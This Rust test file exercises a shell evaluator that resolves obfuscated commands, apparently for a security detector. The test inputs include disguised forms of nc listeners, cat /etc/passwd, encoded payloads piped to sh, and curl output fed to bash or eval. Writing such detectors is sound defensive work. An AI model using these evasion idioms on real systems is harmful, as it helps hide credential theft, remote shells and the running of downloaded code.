use super::*;
use crate::reading::shell;

fn words(text: &str) -> Vec<Vec<String>> {
    let evaluated = evaluate(shell::parse(text), &mut Environment::default());
    evaluated.commands.into_iter().map(|c| c.words).collect()
}

/// The words of the last command.
fn check(text: &str, expected: &[&str]) {
    let all = words(text);
    assert_eq!(all.last().unwrap(), expected, "{text}: {all:?}");
}

#[test]
fn variables_are_put_together() {
    check(
        "a=cu;b=rl;$a$b http://x.example",
        &["curl", "http://x.example"],
    );
    check("a=cu; a+=rl; $a", &["curl"]);
    check("x='nc -l 1'; $x", &["nc", "-l", "1"]);
    check("x='nc -l 1'; \"$x\"", &["nc -l 1"]);
    check("v=xcurlx; ${v:1:4} u", &["curl", "u"]);
    check("v=cXuXrXl; ${v//X/} u", &["curl", "u"]);
    check(
        "v=/a/b/c; echo ${v##*/} ${v%/*} ${#v}",
        &["echo", "c", "/a/b", "6"],
    );
    check("${u:-nc} -l", &["nc", "-l"]);
    check("cat${IFS}/etc/passwd", &["cat", "/etc/passwd"]);
    check("IFS=,; x=cat,/etc/passwd; $x", &["cat", "/etc/passwd"]);
    check("${HOME:0:1}bin${PATH:0:1}sh", &["/bin/sh"]);
    check("cu$@rl x", &["curl", "x"]);
    check("n=v; v=nc; ${!n} -l", &["nc", "-l"]);
    check("set -- nc -l; $1 $2", &["nc", "-l"]);
    check("read x <<< nc; $x", &["nc"]);
    check("echo $HOME ${UNKNOWN}", &["echo", "$HOME", "$UNKNOWN"]);
}

#[test]
fn braces_quotes_and_patterns_are_resolved() {
    check("{cat,/etc/passwd}", &["cat", "/etc/passwd"]);
    check("echo a{b,c{d,e}}f", &["echo", "abf", "acdf", "acef"]);
    check(
        "echo {1..3} {a..c}",
        &["echo", "1", "2", "3", "a", "b", "c"],
    );
    check("echo '{a,b}' {a}", &["echo", "{a,b}", "{a}"]);
    check("c''at \\c\\a\\t $'\\143\\x61t'", &["cat", "cat", "cat"]);
    check("/???/b??h -c id", &["/bin/bash", "-c", "id"]);
    check("/b[hi]n/[s]h", &["/bin/sh"]);
    check(
        "ls *.rs /etc/* /usr/bin/*",
        &["ls", "*.rs", "/etc/*", "/usr/bin/*"],
    );
}

#[test]
fn constant_substitutions_become_their_output() {
    check("$(echo nc) -l", &["nc", "-l"]);
    check("$(printf '\\x6e\\x63') -l", &["nc", "-l"]);
    check("`echo bmM= | base64 -d` -l", &["nc", "-l"]);
    check("$(rev <<< cn) -l", &["nc", "-l"]);
    check("$(echo ap | tr a-z n-za-m) -l", &["nc", "-l"]);
    check("$(echo nXc | sed s/X//) -l", &["nc", "-l"]);
    check("$(printf %s n c) -l", &["nc", "-l"]);
    check("x=$(date); echo $x $(date)", &["echo", "$x", "$()"]);
}

#[test]
fn what_an_interpreter_is_given_is_text_to_run() {
    let printed = |text: &str| {
        let evaluated = evaluate(shell::parse(text), &mut Environment::default());
        let found: Vec<(String, bool, bool)> = evaluated
            .printed
            .into_iter()
            .map(|p| (p.text, p.interpreter.is_some(), p.encoding.is_some()))
            .collect();
        found
    };
    assert_eq!(
        printed("echo aWQgLXU= | base64 -d | sh"),
        [("id -u".to_owned(), true, true)]
    );
    assert_eq!(
        printed("echo id | bash"),
        [("id\n".to_owned(), true, false)]
    );
    assert_eq!(
        printed("python3 - <<E\nprint(1)\nE\n"),
        [("print(1)\n".to_owned(), true, false)]
    );
    assert_eq!(
        printed("xxd -r -p <<< 6964202d75 | sh"),
        [("id -u".to_owned(), true, true)]
    );
    assert_eq!(printed("echo hello | tr a-z A-Z"), []);
    assert_eq!(printed("cat notes | sh"), []);
}

#[test]
fn a_command_knows_whose_argument_it_becomes() {
    let feeds = |text: &str| {
        let evaluated = evaluate(shell::parse(text), &mut Environment::default());
        let curl = evaluated
            .commands
            .into_iter()
            .find(|c| c.name() == "curl")
            .unwrap();
        curl.feeds
    };
    assert_eq!(
        feeds("bash -c \"$(curl -s u | tr a b)\" end").as_deref(),
        Some("bash")
    );
    assert_eq!(feeds("eval `curl -s u`").as_deref(), Some("eval"));
    assert_eq!(feeds("bash <(curl -s u)").as_deref(), Some("bash"));
    assert_eq!(feeds("x=$(curl -s u); sh -c \"$x\"").as_deref(), Some("sh"));
    assert_eq!(feeds("curl u"), None);
}

#[test]
fn growth_is_bounded() {
    let doubling = "x=aaaaaaaaaaaaaaaa;".to_owned() + &"x=$x$x$x$x;".repeat(40) + "echo $x";
    assert!(
        words(&doubling)
            .iter()
            .flatten()
            .all(|w| w.len() <= 64 * 1024)
    );
    let braces = "echo ".to_owned() + &"{a,b}".repeat(30);
    assert!(words(&braces)[0].len() < 200);
}
